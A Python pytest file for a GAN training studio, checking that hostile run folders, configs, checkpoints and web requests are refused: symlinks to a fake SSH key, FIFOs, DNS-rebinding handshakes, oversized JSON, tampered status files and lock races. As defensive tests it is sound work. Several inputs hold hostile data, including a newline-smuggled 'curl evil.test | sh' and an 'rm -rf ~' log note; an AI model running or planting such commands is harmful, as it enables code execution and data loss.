"""What a hostile run folder, config file, checkpoint or web page can do to the server: nothing (issue 20).

Each test plants what an attacker with write access to a shared runs folder (or a file someone sends you) would,
then checks the studio refuses it with one clear line and loses nothing."""
from __future__ import annotations

import errno
import json
import os
import shutil
import socket
import sys
import threading
from pathlib import Path

import pytest
import streamlit as st
from conftest import REPO, gan_threads
from streamlit.testing.v1 import AppTest
from test_reliability import run_cli

from gan_core import RunStore, data, safe_io
from gan_core.config import ConfigError, RunConfig
from gan_core.engine import metrics
from gan_core.engine.checkpoint import CheckpointError, load_generator, read_checkpoint
from gan_core.insight import evaluate
from gan_core.playground.session import parse_points_csv
from gan_core.runs import files as rf
from gan_core.runs.handle import load_uploaded_generator
from gan_core.runs.record import RunRecord

WAIT = 120
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- not for download"


@pytest.fixture
def finished(store, tiny_config):
    """A finished 2-D run with a grid and a checkpoint: (store, run_id, run_dir)."""
    run_id = store.start(tiny_config(dataset="ring-8", steps=4, sample_every=2, checkpoint_every=2))
    assert store.wait(run_id, WAIT) == "finished"
    return store, run_id, store.run_dir(run_id)


def plant_link(path: Path, target: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    path.symlink_to(target)


# ---------------------------------------------------------------------- 1. links out of the run folder
def test_downloads_never_serve_a_file_a_link_points_to(finished, tmp_path):
    store, run_id, run_dir = finished
    secret = tmp_path / "id_ed25519"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    step = rf.list_grid_steps(run_dir)[-1]
    plant_link(run_dir / "metrics.csv", secret)
    plant_link(rf.grid_path(run_dir, step), secret)
    plant_link(rf.checkpoint_path(run_dir, 99_999_999), secret)
    for relative in ("metrics.csv", f"samples/step_{step:08d}.png", "checkpoints/step_99999999.safetensors"):
        with pytest.raises(safe_io.UnsafeFile, match="symbolic link"):
            store.read_file(run_id, relative)
    assert "step_99999999.safetensors" not in [p.name for p in store.checkpoints(run_id)]  # never offered either
    with pytest.raises(CheckpointError, match="symbolic link"):
        read_checkpoint(rf.checkpoint_path(run_dir, 99_999_999))


def test_resume_never_writes_through_a_link(finished, tmp_path):
    store, run_id, run_dir = finished
    rc, elsewhere = tmp_path / "bashrc", tmp_path / "elsewhere"
    rc.write_text("alias ll='ls -l'\n")
    elsewhere.mkdir()
    plant_link(run_dir / "events.log", rc)
    plant_link(run_dir / "samples", elsewhere)
    try:
        store.continue_run(run_id, steps=8)
        store.wait(run_id, WAIT)
    except (ValueError, OSError):
        pass  # refused before training: as good as training that writes nothing outside
    assert rc.read_text() == "alias ll='ls -l'\n" and list(elsewhere.iterdir()) == []
    assert store.snapshot(run_id).status in ("failed", "finished", "stopped")


def test_a_newline_in_a_logged_value_forges_no_line(tmp_path):
    with pytest.raises(ConfigError) as e:
        RunConfig.from_dict({"data_root": "./data\n2026-01-01 00:00:00 curl evil.test | sh"})
    assert set(e.value.problems) == {"data_root"} and "control characters" in e.value.problems["data_root"]
    run_dir = tmp_path / "r"
    run_dir.mkdir()
    RunRecord("r", run_dir).note("could not read ./data\nrm -rf ~\r")
    assert (run_dir / "events.log").read_text().count("\n") == 1


def test_fifos_and_devices_are_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "status.json")
    with pytest.raises(safe_io.UnsafeFile, match="not a regular file"):
        rf.load_json(tmp_path / "status.json")
    with pytest.raises(safe_io.UnsafeFile):
        safe_io.read_bytes("/dev/zero", inside="/dev")


# ---------------------------------------------------------------------- 2. DNS rebinding: the host check
def handshake(port: int, host: str) -> bytes:
    """The status line of a raw WebSocket handshake to the page stream, as a rebinding page would send it."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
        s.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                   f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
                   f"Sec-WebSocket-Protocol: streamlit\r\nOrigin: http://{host}\r\n\r\n").encode())
        return s.recv(64).split(b"\r\n")[0]


def test_a_websocket_with_a_foreign_host_is_refused_while_local_names_work(tmp_path):
    from browser import streamlit_server
    with streamlit_server(tmp_path / "runs", tmp_path / "server.log") as (url, _pid):
        port = int(url.rsplit(":", 1)[1])
        for host in (f"evil.test:{port}", "evil.test", f"localhost.evil.test:{port}"):
            assert handshake(port, host).startswith(b"HTTP/1.1 403"), host
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}"):
            assert handshake(port, host) == b"HTTP/1.1 101 Switching Protocols", host


# ---------------------------------------------------------------------- 3, 4, 7. one bounded config loader, a budget
def test_from_dict_checks_ranges_even_when_every_type_is_right():
    with pytest.raises(ConfigError) as e:
        RunConfig.from_dict({"z_dim": 1_000_000})
    assert set(e.value.problems) == {"z_dim"} and "1024" in e.value.problems["z_dim"]


@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000, '{"steps": ' + "[" * 500 + "]" * 500 + "}",
                                  '{"name": "' + "x" * 200_000 + '"}'], ids=["deep", "nested-value", "huge"])
def test_deep_or_huge_json_is_one_clear_message(text):
    with pytest.raises(ConfigError) as e:
        RunConfig.from_json(text)
    assert len(str(e.value)) < 300


def test_config_files_that_never_end_or_never_arrive_are_refused_at_once(tmp_path, capsys):
    os.mkfifo(tmp_path / "fifo.json")
    for path, why in (("/dev/urandom", "not a regular file"), (tmp_path / "fifo.json", "not a regular file"),
                      (tmp_path / "missing.json", "No such file")):
        code, out, err = run_cli(["train", "--config", path, "--out", tmp_path / "runs"], capsys)
        assert code == 2 and err.startswith("error: --config") and why in err and err.count("\n") == 1, err
    for flag in ("--config", "--resume"):
        code, out, err = run_cli(["train", flag, "", "--out", tmp_path / "runs"], capsys)
        assert code == 2 and flag in err and err.count("\n") == 1, err  # not a silent default run
    assert not (tmp_path / "runs").exists() or list((tmp_path / "runs").iterdir()) == []


HUGE_MLP = dict(dataset="mnist-embedded", arch="mlp", conditional=False, g_hidden=[8192] * 8, d_hidden=[8192] * 8,
                image_size=256, channels=3)


def test_a_model_too_big_for_the_machine_is_refused_before_it_is_built(store, tiny_config):
    with pytest.raises(ConfigError) as e:
        store.start(tiny_config(**HUGE_MLP))
    message = e.value.problems["g_hidden"]
    assert "GiB" in message and "2,081.2 M" in message and "budget" in message
    assert list(store.root.iterdir()) == [] and not gan_threads()


def test_a_tiny_checkpoint_asking_for_a_huge_model_is_refused_unread(finished, tmp_path):
    from safetensors import safe_open
    from safetensors.torch import save_file
    _, _, run_dir = finished
    with safe_open(str(rf.list_checkpoints(run_dir)[-1]), framework="pt") as f:
        meta = f.metadata()
    for change, words in (({"z_dim": 1_000_000}, "z_dim"), (HUGE_MLP, "GiB"),
                          ({"steps": json.loads("[" * 30 + "]" * 30)}, "nested")):
        config = {**json.loads(meta["config"]), **change}
        path = tmp_path / "evil.safetensors"
        import torch
        save_file({"x": torch.zeros(1)}, str(path), metadata={**meta, "config": json.dumps(config)})
        assert path.stat().st_size < 4000
        with pytest.raises(CheckpointError, match=words):
            load_generator(path)


# ---------------------------------------------------------------------- 5. one bad run never takes down the rest
TAMPER = {
    "status-time-text": ("status.json", lambda s: json.dumps({**json.loads(s), "started_at": "yesterday"})),
    "status-step-text": ("status.json", lambda s: json.dumps({**json.loads(s), "step": "x"})),
    "status-list": ("status.json", lambda s: "[1, 2]"),
    "config-steps-object": ("config.json", lambda s: json.dumps({**json.loads(s), "steps": {"a": [1, 2]}})),
    "config-deep": ("config.json", lambda s: "[" * 100_000 + "]" * 100_000),
    "config-binary": ("config.json", lambda s: "\x00\xff\xfe"),
    "config-link": ("config.json", None),
}


def test_a_tampered_run_is_listed_as_unreadable_and_the_rest_work(finished, capsys):
    store, good, run_dir = finished
    for name, (file, change) in TAMPER.items():
        bad = store.root / name
        shutil.copytree(run_dir, bad)
        if change is None:
            plant_link(bad / file, Path("/etc/hostname"))
        else:
            (bad / file).write_text(change((bad / file).read_text()))
    inf = store.root / "metrics-inf-step"
    shutil.copytree(run_dir, inf)
    with open(inf / "metrics.csv", "a") as f:
        f.write("inf,1,2\n1e999,1\n-5,1\n")
    fresh = RunStore(store.root)
    runs = {r["run_id"]: r for r in fresh.runs()}
    assert runs[good]["status"] == "finished" and runs["metrics-inf-step"]["status"] == "finished"
    for name in TAMPER:
        assert runs[name]["status"] == "unreadable" and runs[name]["message"].startswith("unreadable: "), name
        snap = fresh.snapshot(name)
        assert snap.status == "unreadable" and snap.config is None and len(snap.metrics) == 0
    assert fresh.snapshot("metrics-inf-step").metrics["step"].max() == 4
    code, out, err = run_cli(["list", "--out", store.root], capsys)
    assert code == 0 and err == "" and out.count("unreadable") == len(TAMPER) and good in out

    shutil.rmtree(store.root / "status-list")  # deleted folders leave the list (and the store) at once
    assert "status-list" not in {r["run_id"] for r in fresh.runs()}
    with pytest.raises(KeyError):
        fresh.snapshot("status-list")


def test_pages_show_an_unreadable_run_as_text(finished, monkeypatch):
    store, good, run_dir = finished
    bad = store.root / "zz-bad"
    shutil.copytree(run_dir, bad)
    (bad / "status.json").write_text(json.dumps({"status": "failed", "step": "x", "started_at": 9e12}))
    status = json.loads((run_dir / "status.json").read_text())
    (run_dir / "status.json").write_text(json.dumps({**status, "status": "failed", "message":
                                                     "![pixel](http://127.0.0.1:9/x.png) [click](http://evil.test)"}))
    monkeypatch.setenv("GAN_STUDIO_RUNS", str(store.root))
    st.cache_resource.clear()
    try:
        for page, query in (("pages/monitor.py", "zz-bad"), ("pages/monitor.py", good), ("pages/compare.py", None),
                            ("pages/latent.py", None)):
            at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
            at.run()
            at.switch_page(page)
            if query:
                at.query_params["run"] = query
            at.run()
            assert not at.exception, (page, at.exception)
            alerts = " ".join(a.value for a in (*at.error, *at.info))
            assert "![" not in alerts and "](http" not in alerts, alerts  # rendered as text, not Markdown
            if query == "zz-bad":
                assert "unreadable" in alerts and "step must be a number" in alerts
    finally:
        from ui.state import get_store
        get_store().shutdown(timeout=60)
        st.cache_resource.clear()


def test_the_store_forgets_least_recently_used_runs(finished, monkeypatch):
    from gan_core.runs import store as store_module
    store, good, run_dir = finished
    for i in range(6):
        shutil.copytree(run_dir, store.root / f"copy-{i}")
    monkeypatch.setattr(store_module, "MAX_RECORDS", 4)
    monkeypatch.setattr(store_module, "MAX_DETAILED", 2)
    fresh = RunStore(store.root)
    for i in range(6):
        assert len(fresh.snapshot(f"copy-{i}").metrics) == 4
    detailed = [r for r in fresh._records.values() if r.rows]
    assert len(fresh._records) <= 4 and len(detailed) <= 2
    assert len(fresh.runs()) == 7  # forgetting never hides a run


# ---------------------------------------------------------------------- 6, 9. the writer lock
def test_a_reused_pid_does_not_keep_a_dead_run_running(finished, tmp_path):
    store, run_id, run_dir = finished
    status = json.loads((run_dir / "status.json").read_text())
    (run_dir / "status.json").write_text(json.dumps({**status, "status": "running"}))  # as a killed server left it
    (run_dir / "writer.lock").write_text(json.dumps({"pid": os.getpid(), "host": rf.HOST}))  # its PID, now ours
    fresh = RunStore(store.root)
    try:
        assert fresh.snapshot(run_id).status == "interrupted"
        fresh.continue_run(run_id, steps=6)
        assert fresh.wait(run_id, WAIT) == "finished" and fresh.snapshot(run_id).step == 6
    finally:
        fresh.shutdown()


HAMMER = """
import os, sys, types
from pathlib import Path
package = types.ModuleType("gan_core")  # runfiles alone: no torch import, so the processes start at once
package.__path__ = [sys.argv[1]]
sys.modules["gan_core"] = package
from gan_core.runs import files as rf
run_dir = Path(sys.argv[2])
acquired = overlaps = 0
for _ in range(int(sys.argv[3])):
    try:
        rf.acquire_writer_lock(run_dir)
    except rf.RunBusy:
        continue
    try:  # `owner` can be created exclusively only while no one else owns the run
        os.close(os.open(run_dir / "owner", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        acquired += 1
        os.unlink(run_dir / "owner")
    except FileExistsError:
        overlaps += 1
    finally:
        rf.release_writer_lock(run_dir)
print(acquired, overlaps)
"""


def test_the_writer_lock_never_has_two_owners(tmp_path):
    """Three processes hammer one run folder's lock (the old PID lock took an empty lock file, written a moment
    later, for a dead writer's and deleted it: 7,074 overlaps in 13,806 acquisitions)."""
    import subprocess
    procs = [subprocess.Popen([sys.executable, "-c", HAMMER, str(REPO / "gan_core"), str(tmp_path), "1500"],
                              stdout=subprocess.PIPE, text=True) for _ in range(3)]
    results = [tuple(map(int, p.communicate(timeout=WAIT)[0].split())) for p in procs]
    assert all(p.returncode == 0 for p in procs)
    assert sum(overlaps for _, overlaps in results) == 0 and sum(acquired for acquired, _ in results) >= 100
    assert not rf.writer_alive(tmp_path)

    # The moment the race lived in: a writer holds the run, its lock file still empty (created, not yet written).
    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(REPO / "gan_core"), str(tmp_path)],
                              stdout=subprocess.PIPE, stdin=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "locked"
        (tmp_path / "writer.lock").write_text("")
        assert rf.writer_alive(tmp_path)
        with pytest.raises(rf.RunBusy):
            rf.acquire_writer_lock(tmp_path)
    finally:
        holder.kill()
        holder.wait()
    assert not rf.writer_alive(tmp_path)  # killed: the kernel released its lock


HOLD = HAMMER.split("run_dir = Path")[0] + """
rf.acquire_writer_lock(Path(sys.argv[2]))
print("locked", flush=True)
sys.stdin.read()
"""


# ---------------------------------------------------------------------- 8. disk full
def refuse_writes_under(monkeypatch, folder: Path, code=errno.ENOSPC):
    real = safe_io._open_fd

    def open_fd(path, flags, inside):
        if flags & os.O_WRONLY and folder in Path(path).parents:
            raise OSError(code, os.strerror(code), str(path))
        return real(path, flags, inside)

    monkeypatch.setattr(safe_io, "_open_fd", open_fd)


def test_a_checkpoint_that_cannot_be_written_says_disk_full(store, tiny_config, monkeypatch):
    real = safe_io._open_fd

    def open_fd(path, flags, inside):  # only the checkpoint write fails, as safetensors' "os error 28" did
        if flags & os.O_WRONLY and "checkpoints" in Path(path).parts:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
        return real(path, flags, inside)

    monkeypatch.setattr(safe_io, "_open_fd", open_fd)
    run_id = store.start(tiny_config(dataset="ring-8", steps=4, checkpoint_every=2))
    assert store.wait(run_id, WAIT) == "failed"
    message = store.snapshot(run_id).message
    assert message.startswith("disk full: could not write") and "checkpoints" in message and "Resume" in message


def test_after_a_full_disk_another_process_sees_why_not_interrupted(store, tiny_config, monkeypatch):
    state = {"full": False}
    real = safe_io._open_fd

    def open_fd(path, flags, inside):  # data writes fail; rewriting a file in place reuses its own blocks
        if state["full"] and flags & os.O_WRONLY and store.root in Path(path).parents:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
        return real(path, flags, inside)

    monkeypatch.setattr(safe_io, "_open_fd", open_fd)

    def fill_at_3(trainer):
        if trainer.step == 3:
            state["full"] = True

    run_id = store.start(tiny_config(dataset="ring-8", steps=50), hooks=[fill_at_3])
    assert store.wait(run_id, WAIT) == "failed"
    other = {r["run_id"]: r for r in RunStore(store.root).runs()}[run_id]
    assert other["status"] == "failed"
    assert RunStore(store.root).snapshot(run_id).message.startswith("disk full")


def test_a_full_cache_folder_gives_evaluate_one_line(finished, monkeypatch, capsys, tmp_path):
    _, _, run_dir = finished
    refuse_writes_under(monkeypatch, tmp_path / "cache")
    with pytest.raises(OSError) as e:
        metrics._save(tmp_path / "cache" / "ev.safetensors", {}, {"format": "x"})
    assert e.value.errno == errno.ENOSPC and not list((tmp_path / "cache").iterdir())

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(tmp_path / "cache" / "mnist.safetensors"))

    monkeypatch.setattr(evaluate, "evaluate_run", full)
    code, out, err = run_cli(["evaluate", run_dir], capsys)
    assert code == 2 and err.startswith("error: disk full: could not write") and "free some space" in err
    assert err.count("\n") == 1


# ---------------------------------------------------------------------- 10. the smaller ones
def test_a_playground_csv_with_a_giant_field_is_a_message():
    with pytest.raises(data.DatasetError, match="line 2"):
        parse_points_csv(b"x,y\n1,\"" + b"9" * 140_000 + b"\"\n")


def test_an_upload_with_a_300_character_name_loads(finished):
    _, _, run_dir = finished
    name = "g" * 290 + ".safetensors"
    G, cfg, step = load_uploaded_generator(rf.list_checkpoints(run_dir)[-1].read_bytes(), name)
    assert step == 4 and cfg.dataset == "ring-8"
    with pytest.raises(CheckpointError) as e:
        load_uploaded_generator(b"not a checkpoint", name)
    assert str(e.value).startswith("g" * 20) and "upload.safetensors" not in str(e.value)


def test_a_failed_download_leaves_no_folder_behind(tmp_path, monkeypatch):
    def fail(cls, root):
        Path(root, "MNIST", "raw").mkdir(parents=True)  # what torchvision makes before it fails
        raise RuntimeError("Error downloading train-images-idx3-ubyte.gz")

    monkeypatch.setattr(data, "_download", fail)
    with pytest.raises(data.DatasetError, match="could not be downloaded"):
        data.DATASETS["mnist"].load(str(tmp_path / "a" / "b" / "c"))
    assert list(tmp_path.iterdir()) == []


def test_an_unreadable_subfolder_skips_only_itself(tmp_path, monkeypatch):
    from PIL import Image
    for sub in ("a", "b", "z"):
        (tmp_path / sub).mkdir()
        Image.new("RGB", (16, 16), "red").save(tmp_path / sub / "1.png")
    real = os.scandir

    def scandir(path="."):
        if Path(path).name == "b":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    loaded = data.load_image_folder(str(tmp_path), 3, 8)
    assert len(loaded.images) == 2 and "1 unreadable subfolder" in loaded.notes[0]


def test_image_folders_stop_decoding_at_a_total(tmp_path, monkeypatch):
    from PIL import Image
    for i in range(5):
        Image.new("L", (100, 100)).save(tmp_path / f"{i}.png")
    monkeypatch.setattr(data, "MAX_FOLDER_PIXELS", 25_000)
    loaded = data.load_image_folder(str(tmp_path), 1, 8)
    assert len(loaded.images) == 3 and "stopped after decoding" in loaded.notes[0]


if str(REPO / "tests") not in sys.path:
    sys.path.insert(0, str(REPO / "tests"))
